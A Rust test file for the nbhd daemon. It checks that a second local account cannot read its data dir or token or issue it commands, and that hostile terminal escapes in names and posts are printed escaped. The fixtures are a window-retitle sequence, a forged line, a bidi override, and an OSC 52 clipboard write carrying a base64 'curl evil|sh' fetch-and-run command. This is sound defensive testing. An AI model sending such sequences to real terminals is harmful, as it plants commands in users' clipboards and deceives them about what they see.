//! Issue 15's local user, run as one: another account on the daemon's machine (`nobody`, uid
//! 65534, through `setpriv`) tries to read the data dir and to command the daemon, and text a
//! person never typed reaches the terminal. Real daemons in a network namespace (nbhd-lab).
//! Root only; they skip with a message elsewhere. Names start with `netns_` so nextest runs
//! them in one serial group.

mod common;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use common::*;
use nbhd_lab::{skip_unless_root, Lab};

const NOBODY: &str = "65534";

/// Runs `args` inside host 0 as uid and gid 65534 with no supplementary groups.
fn as_nobody(lab: &Lab, args: &[&str]) -> Output {
    let mut c = lab.command(0, "setpriv");
    c.arg(format!("--reuid={NOBODY}"))
        .arg(format!("--regid={NOBODY}"))
        .arg("--clear-groups")
        .args(args);
    c.output().expect("setpriv")
}

/// `p`'s mode as `ls` and `chmod` write it: "0600".
fn mode(p: &Path) -> String {
    let m = fs::metadata(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .permissions()
        .mode();
    format!("{:04o}", m & 0o7777)
}

fn chmod(p: &Path, mode: u32) {
    fs::set_permissions(p, fs::Permissions::from_mode(mode))
        .unwrap_or_else(|e| panic!("chmod {}: {e}", p.display()));
}

/// The data dir's files that exist now: the store (and its WAL files once SQLite made them),
/// the token, the API address, the lock, the control socket.
fn files(dir: &Path) -> Vec<PathBuf> {
    [
        "nbhd.db",
        "nbhd.db-wal",
        "nbhd.db-shm",
        "token",
        "api",
        "lock",
        "nbhd.sock",
    ]
    .iter()
    .map(|f| dir.join(f))
    .filter(|p| p.exists())
    .collect()
}

fn text(out: &Output) -> String {
    format!(
        "exit {:?}, stdout {:?}, stderr {:?}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn netns_a_local_user_reads_no_secret_and_cannot_command_the_daemon() {
    if skip_unless_root("netns_a_local_user_reads_no_secret_and_cannot_command_the_daemon") {
        return;
    }
    let mut lab = Lab::new(1).expect("lab");
    // Everything above the data dir is open to nobody, so a refusal is the data dir's own.
    chmod(&lab.dir, 0o755);
    // The binary, where nobody can run it whatever the build dir's parents allow: linked if
    // it can be (a debug build is 100 MB), else copied; removed at the end.
    let nbhd_path = lab.dir.join("nbhd");
    fs::hard_link(NBHD, &nbhd_path)
        .or_else(|_| fs::copy(NBHD, &nbhd_path).map(|_| ()))
        .expect("link or copy nbhd");
    chmod(&nbhd_path, 0o755);
    let nbhd_copy = nbhd_path.display().to_string();
    let dir = data_dir(&lab, 0);

    // Started under umask 000: its modes must not come from the umask.
    // SAFETY: umask(2) has no preconditions; the daemon inherits it, then we take ours back.
    let umask = unsafe { libc::umask(0) };
    let pid = start(&mut lab, 0, "alice", &[]);
    unsafe { libc::umask(umask) };
    let log = lab.dir.join("nbhd-h1-alice.log");

    assert_eq!(mode(&dir), "0700", "data dir {}", dir.display());
    let made = files(&dir);
    for f in ["nbhd.db", "token", "api", "lock", "nbhd.sock"] {
        assert!(made.contains(&dir.join(f)), "{f} missing: {made:?}");
    }
    for f in &made {
        assert_eq!(mode(f), "0600", "{}", f.display());
    }
    eprintln!("FIGURE data dir 0700, {} files 0600: {made:?}", made.len());

    let dir_s = dir.display().to_string();
    let (db, token) = (format!("{dir_s}/nbhd.db"), format!("{dir_s}/token"));
    for args in [
        ["cat", "--", &db],
        ["cat", "--", &token],
        ["ls", "--", &dir_s],
    ] {
        let out = as_nobody(&lab, &args);
        assert!(
            !out.status.success()
                && String::from_utf8_lossy(&out.stderr).contains("Permission denied"),
            "nobody ran {args:?}: {}",
            text(&out)
        );
        assert!(
            out.stdout.is_empty(),
            "nobody read {args:?}: {}",
            text(&out)
        );
    }

    // A hand loosens the dir and the socket: the daemon still serves only its owner.
    chmod(&dir, 0o755);
    chmod(&dir.join("nbhd.sock"), 0o666);
    let out = as_nobody(&lab, &[&nbhd_copy, "--data-dir", &dir_s, "status"]);
    assert!(
        !out.status.success(),
        "nobody commanded the daemon: {}",
        text(&out)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("serves only its owner"),
        "{}",
        text(&out)
    );
    eprintln!("FIGURE nobody's nbhd status: {}", text(&out));
    // Connected (the socket was reachable), and refused by the uid check.
    assert!(
        read(&log).contains("control connection refused")
            && read(&log).contains("the caller is uid 65534"),
        "the daemon's log:\n{}",
        read(&log)
    );
    let mine = nbhd(&lab, 0, &dir, &["status", "--json"]);
    assert!(
        mine.status.success(),
        "the owner was refused: {}",
        text(&mine)
    );

    // Killed as a crash kills it (its WAL files, socket and API address left behind), every
    // file loosened (as a data dir of an older nbhd was), started again: it narrows each one
    // and names it with its old mode.
    lab.signal(pid, libc::SIGKILL);
    assert!(lab.wait_exit(pid, Duration::from_secs(10)).is_some());
    let loosened = files(&dir);
    for f in ["nbhd.db-wal", "nbhd.db-shm", "api", "nbhd.sock"] {
        assert!(loosened.contains(&dir.join(f)), "{f} gone: {loosened:?}");
    }
    for f in &loosened {
        chmod(f, 0o644);
    }
    assert_eq!(mode(&dir), "0755");
    restart(&mut lab, 0, "alice");
    let log = lab.dir.join("nbhd-h1-alice-restarted.log");
    let warned = |p: &Path, old: &str| {
        read(&log).lines().any(|l| {
            l.contains("WARN")
                && l.contains(&format!("path={} ", p.display()))
                && l.contains(&format!("old_mode={old}"))
        })
    };
    assert_eq!(mode(&dir), "0700");
    assert!(
        warned(&dir, "0755"),
        "no warning for the dir:\n{}",
        read(&log)
    );
    for f in &loosened {
        assert_eq!(mode(f), "0600", "{}", f.display());
        assert!(
            warned(f, "0644"),
            "no warning for {}:\n{}",
            f.display(),
            read(&log)
        );
    }
    let out = as_nobody(&lab, &["cat", "--", &format!("{dir_s}/token")]);
    assert!(
        !out.status.success() && out.stdout.is_empty(),
        "{}",
        text(&out)
    );
    let _ = fs::remove_file(&nbhd_path);
    eprintln!(
        "FIGURE restarted on a loosened data dir: narrowed and named {} paths",
        loosened.len() + 1
    );
}

#[test]
fn netns_control_characters_in_names_and_posts_are_shown_escaped_on_the_terminal() {
    if skip_unless_root(
        "netns_control_characters_in_names_and_posts_are_shown_escaped_on_the_terminal",
    ) {
        return;
    }
    let mut lab = Lab::new(1).expect("lab");
    start(&mut lab, 0, "alice", &[]);
    // A name that retitles the window and hides itself; a post that writes the clipboard
    // (OSC 52), clears the screen by the one-character CSI, forges a second line and turns
    // the rest of it around.
    let name = "\x1b]0;owned\x07chess\x1b[8m";
    let post = "e4\x1b]52;c;Y3VybCBldmlsfHNo\x07\u{9b}2J\nbob: resign\u{202e}4e";
    let (code, shared) = nbhd_json(&lab, 0, &["share", name, "--private"]);
    assert_eq!(code, Some(0), "{shared}");
    let id = shared["id"].as_str().expect("id").to_string();
    let (code, v) = nbhd_json(&lab, 0, &["post", &id, post]);
    assert_eq!(code, Some(0), "{v}");

    let dir = data_dir(&lab, 0);
    for args in [vec!["activities"], vec!["log", &id]] {
        let out = nbhd(&lab, 0, &dir, &args);
        assert!(out.status.success(), "{args:?}: {}", text(&out));
        let shown = String::from_utf8_lossy(&out.stdout);
        let obeyed: Vec<char> = shown
            .chars()
            .filter(|c| (c.is_control() && *c != '\n') || ('\u{202a}'..='\u{202e}').contains(c))
            .collect();
        assert!(obeyed.is_empty(), "{args:?} printed {obeyed:?}: {shown:?}");
        eprintln!("{args:?} printed:\n{shown}");
        if args[0] == "log" {
            assert_eq!(shown.lines().count(), 1, "{shown:?}");
            assert!(
                shown.contains(r"\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{9b}2J\nbob: resign\u{202e}4e"),
                "{shown:?}"
            );
        } else {
            assert!(
                shown.contains(r"\u{1b}]0;owned\u{7}chess\u{1b}[8m"),
                "{shown:?}"
            );
        }
    }
    // Machine output carries the text as it was.
    let (_, log) = nbhd_json(&lab, 0, &["log", &id]);
    let texts: Vec<&str> = log
        .as_array()
        .map(|a| a.iter().filter_map(|p| p["text"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(texts, vec![post], "{log}");
    let (_, listed) = nbhd_json(&lab, 0, &["activities"]);
    assert!(
        listed
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["name"] == name)),
        "{listed}"
    );
}
